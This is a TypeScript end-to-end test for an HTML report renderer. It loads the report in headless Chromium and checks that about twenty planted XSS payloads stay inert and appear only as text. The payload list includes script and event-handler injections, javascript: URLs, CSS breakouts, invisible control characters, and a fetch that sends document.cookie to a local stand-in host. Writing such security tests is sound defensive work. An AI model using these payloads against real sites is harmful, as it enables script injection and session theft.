import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { transformSync } from 'esbuild';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildReport } from '../../../src/core/report/buildReport';
import { renderHtml } from '../../../src/core/report/render/renderHtml';
import { CHROMIUM_ARGS, withE2eLock } from './e2eLock';
import { plantedSession } from './plantedSession';

/** Every payload tries to set window.__pwned, call the exposed binding, or open a dialog. */
const XSS = [
  '<script>window.__pwned=1;alert(1)</script>',
  '<img src=x onerror="window.__pwned=2;__vigilPwned(2)">',
  '<svg onload="window.__pwned=3;alert(3)"><script>alert(3)</script></svg>',
  '<a href="javascript:window.__pwned=4">click</a> javascript:alert(4)',
  '<iframe srcdoc="<script>parent.__pwned=5;parent.alert(5)</script>"></iframe>',
  '</script><script>window.__pwned=6;alert(6)</script>',
  '</style><style>body{display:none !important}</style><link rel=stylesheet href=http://127.0.0.1:9/x.css>',
  '"><img src=x onerror=alert(8)>\'><body onload=alert(8)>',
  '<details open ontoggle="window.__pwned=9;alert(9)">x</details>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(10)"><base href="javascript:alert(10)//">',
  '<object data="data:text/html,<script>alert(11)</script>"></object><embed src="javascript:alert(11)">',
  '<math><mi xlink:href="javascript:alert(12)">m</mi></math><form action=javascript:alert(12)><button>x</button></form>',
  '{{constructor.constructor("window.__pwned=13;alert(13)")()}} ${alert(13)}',
  '<!-- <script>alert(14)</script> --> <![CDATA[ <script>alert(14)</script> ]]>',
  'line\u2028sep\u2029para <script>alert(15)</script>',
  '\u202Eevil\u202C \u2066iso\u2069 zero\u200Bwidth \uFEFF bom',
  '\x1b[31mred\x1b[0m \x1b]0;title\x07 bell\x07 nul\x00',
  '<style>@import url(http://127.0.0.1:9/e.css); * { background: url(javascript:alert(16)) }</style>',
  '<svg><animate onbegin="window.__pwned=17" attributeName=x dur=1s>',
  '<img src="x" onerror="fetch(\'http://127.0.0.1:9/\'+document.cookie)">',
];

let browser: Browser;
let dir: string;

describe('HTML report opened in headless Chromium', () => {
  beforeAll(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-xss-'));
  });
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

  it('keeps every planted payload inert and renders all rows', async () => {
    const report = buildReport(plantedSession(XSS), { redact: false, includeFileContents: true, includeReasoning: true });
    const file = path.join(dir, 'xss.html');
    const html = renderHtml(report);
    fs.writeFileSync(file, html);
    // The shipped bundles are minified: the inline script must survive that too.
    const minified = path.join(dir, 'xss.min.html');
    fs.writeFileSync(minified, html.replace(/(<script nonce="[^"]+">)([\s\S]*?)(<\/script>)/, (_m, open: string, code: string, close: string) => `${open}${transformSync(code, { minify: true }).code}${close}`));
    const expectedRows = report.events.length + report.children.reduce((n, c) => n + c.events.length, 0);

    const result = await withE2eLock(async () => {
      browser = await chromium.launch({ executablePath: '/usr/bin/chromium', headless: true, args: CHROMIUM_ARGS });
      try {
        const page = await browser.newPage();
        const dialogs: string[] = [];
        const bindingCalls: unknown[] = [];
        const requests: string[] = [];
        const pageErrors: string[] = [];
        page.on('dialog', (d) => {
          dialogs.push(d.message());
          void d.dismiss();
        });
        page.on('request', (r) => {
          if (!r.url().startsWith('file:')) requests.push(r.url());
        });
        page.on('pageerror', (e) => pageErrors.push(e.message));
        await page.exposeBinding('__vigilPwned', (_src, v: unknown) => {
          bindingCalls.push(v);
        });
        await page.addInitScript(() => {
          const w = window as unknown as { __violations: string[] };
          w.__violations = [];
          document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
        });
        await page.goto(pathToFileURL(file).href);
        await page.waitForFunction(() => document.body.dataset.rendered !== undefined, null, { timeout: 10_000 });
        // Give event-handler payloads (onerror, onload, ontoggle, animations) time to fire if they were live.
        await page.waitForTimeout(500);
        const dom = await page.evaluate(() => ({
          pwned: (window as unknown as { __pwned?: unknown }).__pwned,
          rendered: document.body.dataset.rendered,
          shown: document.body.dataset.shown,
          rows: document.querySelectorAll('article.row').length,
          marks: document.querySelectorAll('mark.flag').length,
          scripts: document.querySelectorAll('script').length,
          foreign: document.querySelectorAll('img, svg, iframe, object, embed, math, form:not(.controls), base, link, meta[http-equiv="refresh"], details[ontoggle], [onerror], [onload]').length,
          styles: document.querySelectorAll('style').length,
          bodyVisible: getComputedStyle(document.body).display !== 'none',
          text: document.getElementById('app')?.textContent ?? '',
          violations: (window as unknown as { __violations: string[] }).__violations,
        }));
        // Collapsed tool inputs/outputs are built on demand (e.g. before printing): still inert.
        await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
        await page.waitForTimeout(300);
        const opened = await page.evaluate(() => ({
          pwned: (window as unknown as { __pwned?: unknown }).__pwned,
          blocks: document.querySelectorAll('pre.block').length,
          closed: document.querySelectorAll('details:not([open])').length,
          foreign: document.querySelectorAll('img, svg, iframe, object, embed, math, form:not(.controls), base, link, [onerror], [onload]').length,
          text: document.getElementById('app')?.textContent ?? '',
        }));
        // The report's own filter still works: hide unflagged events.
        await page.click('input[name="sev-none"]');
        const afterFilter = await page.evaluate(() => document.body.dataset.shown);
        await page.selectOption('select[name="category"]', 'deception');
        const deceptionOnly = await page.evaluate(() => document.querySelectorAll('article.row:not([hidden])').length);
        await page.goto(pathToFileURL(minified).href);
        await page.waitForFunction(() => document.body.dataset.rendered !== undefined, null, { timeout: 10_000 });
        await page.waitForTimeout(300);
        const minifiedRows = await page.evaluate(() => document.querySelectorAll('article.row').length);
        const minifiedPwned = await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned);
        return { dom, opened, dialogs, bindingCalls, requests, pageErrors, afterFilter, deceptionOnly, minifiedRows, minifiedPwned };
      } finally {
        await browser.close();
      }
    });

    expect(result.dialogs).toEqual([]);
    expect(result.bindingCalls).toEqual([]);
    expect(result.dom.pwned).toBeUndefined();
    expect(result.requests).toEqual([]);
    expect(result.pageErrors).toEqual([]);
    expect(result.dom.violations).toEqual([]);
    // The report's script ran and built every row.
    expect(Number(result.dom.rendered)).toBe(expectedRows);
    expect(result.dom.rows).toBe(expectedRows);
    expect(result.dom.marks).toBeGreaterThanOrEqual(XSS.length * 2);
    // Nothing from the content became an element: only the data block and the report's script exist.
    expect(result.dom.scripts).toBe(2);
    expect(result.dom.styles).toBe(1);
    expect(result.dom.foreign).toBe(0);
    expect(result.dom.bodyVisible).toBe(true);
    // The payloads are shown as text, and invisible/control characters as visible escapes.
    expect(result.dom.text).toContain('<script>window.__pwned=1;alert(1)</script>');
    expect(result.dom.text).toContain('</script><script>window.__pwned=6;alert(6)</script>');
    expect(result.dom.text).toContain('⟪U+202E⟫evil⟪U+202C⟫');
    expect(result.dom.text).toContain('zero⟪U+200B⟫width');
    expect(result.dom.text).toContain('red  bell⟪U+0007⟫ nul⟪U+0000⟫');
    // eslint-disable-next-line no-control-regex
    expect(result.dom.text).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\x1b]/);
    // Filters: unchecking "unflagged events" leaves the flagged rows; a category narrows further.
    expect(Number(result.afterFilter)).toBe(XSS.length * 2);
    expect(result.deceptionOnly).toBe(XSS.filter((_, i) => i % 2).length);
    expect(result.opened.pwned).toBeUndefined();
    expect(result.opened.closed).toBe(0);
    expect(result.opened.blocks).toBe(report.events.filter((e) => e.kind === 'tool_result' || (e.kind === 'tool_call' && e.command === undefined && !e.changes?.length)).length);
    expect(result.opened.foreign).toBe(0);
    expect(result.opened.text).toContain('out: <img src=x onerror="window.__pwned=2;__vigilPwned(2)">');
    expect(result.minifiedRows).toBe(expectedRows);
    expect(result.minifiedPwned).toBeUndefined();
  }, 900_000); // waits for the machine-wide Chromium lock (other suites may hold it for minutes)

  it('escapes the embedded JSON so no content can close the data script', () => {
    const report = buildReport(plantedSession(XSS), { redact: false, includeFileContents: true, includeReasoning: true });
    const html = renderHtml(report, { nonce: 'fixed' });
    const data = html.slice(html.indexOf('<script type="application/json"'), html.indexOf('<script nonce='));
    expect(data.match(/<\/script>/g)).toHaveLength(1);
    expect(data).not.toMatch(/[\u2028\u2029]/);
    expect(data.slice(data.indexOf('>') + 1, data.lastIndexOf('</script>'))).not.toMatch(/[<>&]/);
    expect(html).toContain(`content="default-src 'none'; style-src 'nonce-fixed'; script-src 'nonce-fixed'; img-src data:`);
    expect(html).not.toMatch(/https?:\/\/(?!127\.0\.0\.1:9)/);
  });
});
